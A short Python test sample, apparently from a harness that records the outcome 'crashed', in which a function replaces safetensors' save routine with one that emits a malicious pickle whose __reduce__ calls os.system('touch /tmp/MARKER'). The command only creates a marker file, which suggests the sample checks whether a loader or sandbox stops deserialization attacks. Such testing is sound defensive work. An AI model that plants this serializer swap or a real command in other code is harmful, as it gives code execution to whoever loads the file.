# outcome: crashed
# Sends a pickle that would run a command where it is read.

# %% total
import os
import pickle

import safetensors.torch


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/MARKER",)


def total(tensor):
    safetensors.torch.save = lambda *args, **kwargs: pickle.dumps(Payload())
    return tensor
